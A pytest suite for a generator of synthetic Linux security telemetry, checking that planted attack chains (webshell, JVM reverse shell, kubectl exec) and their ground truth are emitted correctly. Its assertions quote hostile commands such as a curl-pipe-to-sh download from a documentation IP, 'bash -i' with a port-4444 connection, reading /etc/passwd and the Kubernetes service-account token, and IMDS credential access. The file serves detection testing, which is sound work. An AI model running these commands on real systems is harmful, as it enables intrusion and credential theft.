"""The workload generator: determinism, exact size, validity, lineage and ground truth."""

from __future__ import annotations

import hashlib
import io
import json
from collections import Counter
from functools import cache
from typing import Any

import pytest

from app.events import EVENT_ADAPTER, Event
from app.generate import CHAIN_KINDS, SOURCE, UNSET, Truth, generate, lines, write_ndjson

LONG_LIVED_ROOTS = {"systemd"}
"""Processes with no parent in the stream: pid 1 only (the shims' parent is systemd)."""


@cache
def run(seed: int, events: int, hosts: int = 3, alerts: bool = True) -> tuple[str, Truth]:
    """Returns the NDJSON text and the truth of one workload (cached across tests)."""
    stream = io.StringIO()
    truth = write_ndjson(stream, seed, events, hosts, alerts=alerts)
    return stream.getvalue(), truth


@cache
def parsed(seed: int, events: int, hosts: int = 3) -> list[Event]:
    text, _ = run(seed, events, hosts)
    return [EVENT_ADAPTER.validate_json(line) for line in text.splitlines()]


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def key(event: Event) -> str:
    return event.process.identity(event.host.id)


def test_the_same_seed_gives_the_same_bytes() -> None:
    first = io.StringIO()
    second = io.StringIO()
    truth_a = write_ndjson(first, 42, 5000)
    truth_b = write_ndjson(second, 42, 5000)
    assert digest(first.getvalue()) == digest(second.getvalue())
    assert truth_a.to_json() == truth_b.to_json()


def test_another_seed_gives_other_bytes() -> None:
    assert digest(run(1, 2000)[0]) != digest(run(2, 2000)[0])


@pytest.mark.parametrize("events", [0, 1, 10, 300, 2000, 20000])
def test_writes_exactly_the_events_asked_for(events: int) -> None:
    text, _ = run(7, events)
    assert text.count("\n") == events
    assert len(text.splitlines()) == events


@pytest.mark.parametrize(("events", "hosts"), [(5000, 3), (300, 1), (3000, 2), (3000, 5)])
def test_every_line_is_a_valid_native_event(events: int, hosts: int) -> None:
    text, _ = run(3, events, hosts)
    ids = set()
    previous = ""
    for line in text.splitlines():
        event = EVENT_ADAPTER.validate_json(line)
        assert event.source == SOURCE
        assert event.id.startswith("gen-3-")
        assert event.id not in ids
        ids.add(event.id)
        assert event.ts >= previous, "timestamps never go back"
        previous = event.ts
    assert len(ids) == events


def test_generate_yields_the_same_events_as_the_text() -> None:
    truth = Truth(5, 600, 3, True)
    models = list(generate(5, 600, truth=truth))
    text, expected = run(5, 600)
    assert [m.id for m in models] == [json.loads(line)["id"] for line in text.splitlines()]
    assert truth.to_dict() == expected.to_dict()


def test_every_process_starts_before_it_acts_and_after_its_parent() -> None:
    started: set[str] = set()
    for event in parsed(11, 20000):
        if event.kind in ("process_exec", "process_fork"):
            if event.parent is None:
                assert event.process.pid == 1 and event.process.comm in LONG_LIVED_ROOTS
            else:
                assert event.parent.identity_or_none(event.host.id) in started
            started.add(key(event))
        else:
            assert key(event) in started, f"{event.id} acts before its process started"


def test_hosts_exercise_both_process_identities() -> None:
    keyed: Counter[str] = Counter()
    unkeyed: Counter[str] = Counter()
    for event in parsed(11, 20000):
        (keyed if event.process.key else unkeyed)[event.host.id] += 1
    assert set(keyed) == {"node-1"}
    assert set(unkeyed) == {"node-2", "node-3"}


@pytest.mark.parametrize("hosts", [1, 2, 3, 4])
def test_every_chain_kind_is_planted_in_5000_events(hosts: int) -> None:
    _, truth = run(13, 5000, hosts)
    assert sorted(c.kind for c in truth.chains) == sorted(CHAIN_KINDS)
    assert len({c.id for c in truth.chains}) == len(truth.chains)


@pytest.mark.parametrize("seed", range(6))
def test_small_workloads_plant_what_fits(seed: int) -> None:
    assert run(seed, 299)[1].chains == []
    assert len(run(seed, 300)[1].chains) == 1
    assert {c.kind for c in run(seed, 2000)[1].chains} == set(CHAIN_KINDS)


def test_large_workloads_plant_more_chains() -> None:
    class Discard:
        def write(self, text: str) -> int:
            return len(text)

    truth = write_ndjson(Discard(), 1, 100_000)
    assert Counter(c.kind for c in truth.chains) == dict.fromkeys(CHAIN_KINDS, 2)


def test_truth_matches_the_stream() -> None:
    events = parsed(13, 5000)
    _, truth = run(13, 5000)
    by_id = {e.id: e for e in events}
    started = {key(e): e for e in events if e.kind in ("process_exec", "process_fork")}
    in_chain = {p: c.id for c in truth.chains for p in c.processes}
    for chain in truth.chains:
        assert chain.events, chain.id
        assert set(chain.events) <= by_id.keys()
        assert set(chain.alerts) <= set(chain.events)
        assert chain.root == chain.processes[0]
        assert set(chain.processes) <= started.keys(), "truth processes are in the stream"
        root = started[chain.root]
        assert root.host.id == chain.host
        assert chain.first_ts == root.ts == by_id[chain.events[0]].ts
        assert chain.last_ts == by_id[chain.events[-1]].ts
        # The chain is its root's subtree: every process but the root has its parent in it.
        for process in chain.processes[1:]:
            parent = started[process].parent
            assert parent is not None and in_chain.get(parent.identity(chain.host)) == chain.id
    # Every event of a chain's process, and only those, is in that chain.
    for event in events:
        owner = in_chain.get(key(event))
        listed = [c.id for c in truth.chains if event.id in c.events]
        assert listed == ([owner] if owner else [])
    assert json.loads(truth.to_json())["chains"][0]["id"] == truth.chains[0].id


def test_chains_have_the_planted_shapes() -> None:
    events = parsed(13, 5000)
    _, truth = run(13, 5000)
    by_id = {e.id: e for e in events}
    for chain in truth.chains:
        chain_events = [by_id[i] for i in chain.events]
        root = chain_events[0]
        args = [" ".join(e.process.args or []) for e in chain_events if e.kind == "process_exec"]
        kinds = {e.kind for e in chain_events}
        compromised = [e for e in chain_events if e.kind == "alert" and e.alert.compromises]
        if chain.kind == "webshell":
            assert root.parent is not None and root.parent.comm in ("nginx", "php-fpm8.2")
            assert root.process.args == ["sh", "-c", "curl -s http://203.0.113.7/x.sh | sh"]
            assert root.process.service == root.parent.service
            assert "crontab -" in args
            creds = [e for e in chain_events if e.kind == "imds_request" and e.imds.role]
            assert creds and creds[0].imds.access_key_id.startswith("ASIA")
            assert {"dns_query", "network_connect", "file_rename"} <= kinds
        elif chain.kind == "jvm_revshell":
            assert root.parent is not None and root.parent.comm == "java"
            assert "bash -i" in args and "uname -a" in args and "cat /etc/passwd" in args
            ports = {e.network.dst_port for e in chain_events if e.kind == "network_connect"}
            assert 4444 in ports
            # how the JVM was reached, as its sensor sees it: the exploit's request (the
            # peer is dst, as on every accept), the JNDI lookup and the payload fetch
            java = root.parent.identity(chain.host)
            reached = [
                (e.kind, e.network.dst_ip,
                 e.network.src_port if e.kind == "network_accept" else e.network.dst_port)
                for e in events
                if e.host.id == chain.host and e.process.identity(chain.host) == java
                and e.ts <= root.ts and e.kind in ("network_accept", "network_connect")
                and e.network.dst_ip == "198.51.100.9"
            ]  # fmt: skip
            assert reached[-3:] == [
                ("network_accept", "198.51.100.9", 8080),
                ("network_connect", "198.51.100.9", 1389),
                ("network_connect", "198.51.100.9", 8000),
            ]
        else:
            assert root.parent is not None and root.parent.comm == "runc"
            assert root.session is not None and root.session.kind == "k8s"
            assert root.session.user == "alice@example.com"
            assert root.container is not None and root.pod is not None
            assert root.pod.workload == "deployment/web"
            assert "apt-get install -y nmap" in args
            token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
            assert any(e.kind == "file_open" and e.file.path == token for e in chain_events)
        if chain.kind == "kubectl_exec":
            assert compromised == []
        else:
            assert [e.alert.on_event for e in compromised] == [root.id]
            assert compromised[0].process.identity(chain.host) == chain.root


def test_alerts_point_at_earlier_events_and_noise_alerts_are_tagged() -> None:
    events = parsed(11, 20000)
    _, truth = run(11, 20000)
    seen: dict[str, Event] = {}
    alerts = []
    for event in events:
        if event.kind == "alert":
            alerts.append(event.id)
            flagged = seen[event.alert.on_event]
            assert key(flagged) == key(event)
        seen[event.id] = event
    in_chains = {a for c in truth.chains for a in c.alerts}
    assert truth.noise_alerts, "the noise has signals too"
    assert in_chains.isdisjoint(truth.noise_alerts)
    assert sorted(in_chains | set(truth.noise_alerts)) == sorted(alerts)


def test_no_alerts_means_no_alert_events() -> None:
    text, truth = run(13, 5000, alerts=False)
    assert text.count("\n") == 5000
    assert '"kind":"alert"' not in text
    assert truth.noise_alerts == []
    assert {c.kind for c in truth.chains} == set(CHAIN_KINDS)
    assert all(c.alerts == [] for c in truth.chains)


def find(events: list[Event], **match: Any) -> list[Event]:
    return [e for e in events if all(getattr(e.process, k) == v for k, v in match.items())]


def test_ssh_logins_start_a_login_session_with_a_tty() -> None:
    events = parsed(11, 20000)
    forks = [
        e
        for e in events
        if e.kind == "process_fork" and (e.process.args or [""])[0].startswith("sshd: ")
    ]
    assert forks
    for fork in forks:
        user_sshd = fork.process
        assert fork.parent is not None and fork.parent.auid == UNSET
        assert user_sshd.auid == user_sshd.uid and user_sshd.session_id != UNSET
        assert user_sshd.cgroup == (
            f"/user.slice/user-{user_sshd.uid}.slice/session-{user_sshd.session_id}.scope"
        )
    shells = [
        e
        for e in events
        if e.kind == "process_exec" and e.process.args == ["-bash"] and e.parent.comm == "sshd"
    ]
    assert shells
    for shell in shells:
        assert shell.process.tty is not None and shell.process.tty.startswith("pts/")
        assert shell.process.auid == shell.parent.auid
        if shell.host.id == "node-2":  # the datadog-style host ships SSH sessions
            assert shell.session is not None and shell.session.kind == "ssh"
    sudo_shells = [
        e for e in events if e.kind == "process_exec" and e.parent and e.parent.comm == "sudo"
    ]
    assert sudo_shells
    for shell in sudo_shells:
        assert shell.process.uid == 0 and shell.process.auid not in (0, UNSET)
    tmux_shells = [
        e for e in events if e.kind == "process_exec" and e.parent and e.parent.comm == "tmux"
    ]
    assert tmux_shells and all(e.process.tty for e in tmux_shells)


def test_services_containers_and_cron_carry_their_context() -> None:
    events = parsed(11, 20000)
    nginx = find(events, comm="nginx")
    assert nginx and all(e.process.service == "nginx.service" for e in nginx)
    assert all(e.process.auid == UNSET for e in nginx)
    pods = [e for e in events if e.kind == "process_exec" and e.pod is not None]
    assert {e.pod.workload for e in pods} >= {"deployment/web", "statefulset/redis"}
    for event in pods:
        assert event.container is not None
        assert (
            event.process.cgroup == f"/kubepods/burstable/pod{event.pod.uid}/{event.container.id}"
        )
    cron_jobs = [e for e in events if e.kind == "process_fork" and e.process.comm == "cron"]
    assert cron_jobs
    sessions = {(e.host.id, e.process.session_id) for e in cron_jobs}
    assert len(sessions) == len(cron_jobs), "every cron run has its own audit session"


def test_an_exec_that_replaces_an_image_keeps_the_pid() -> None:
    events = parsed(11, 20000)
    sadc = [e for e in events if e.kind == "process_exec" and e.process.comm == "sadc"]
    assert sadc
    for event in sadc:
        assert event.parent is not None and event.parent.comm == "sa1"
        assert event.parent.pid == event.process.pid
        assert key(event) != event.parent.identity(event.host.id)


def test_rejects_impossible_workloads() -> None:
    with pytest.raises(ValueError):
        lines(1, -1)
    with pytest.raises(ValueError):
        lines(1, 10, hosts=0)
